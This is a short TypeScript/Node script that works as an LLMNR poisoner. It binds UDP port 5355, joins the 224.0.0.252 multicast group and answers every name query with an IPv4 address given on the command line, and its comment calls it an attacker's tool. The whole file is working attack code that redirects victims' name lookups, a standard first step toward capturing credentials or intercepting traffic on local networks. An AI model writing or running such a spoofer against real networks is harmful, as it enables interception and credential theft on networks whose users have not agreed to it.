import { createSocket } from 'node:dgram'
import { argv } from 'node:process'

/** Answers every LLMNR question, whatever its name, with one address, as an attacker's tool does. Argument: the address. */
function poison(address: string): void {
  const socket = createSocket({ type: 'udp4', reuseAddr: true })
  socket.on('message', (query, { address: client, port }) => {
    if (query.length < 13 || query.readUInt16BE(2) !== 0) return
    const answer = Buffer.concat([
      query,
      Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4, ...address.split('.').map(Number)]),
    ])
    answer.writeUInt16BE(0x8000, 2)
    answer.writeUInt16BE(1, 6)
    socket.send(answer, port, client)
  })
  socket.bind(5355, '0.0.0.0', () => socket.addMembership('224.0.0.252', address))
}

if (import.meta.filename === argv[1]) poison(argv[2] ?? '')
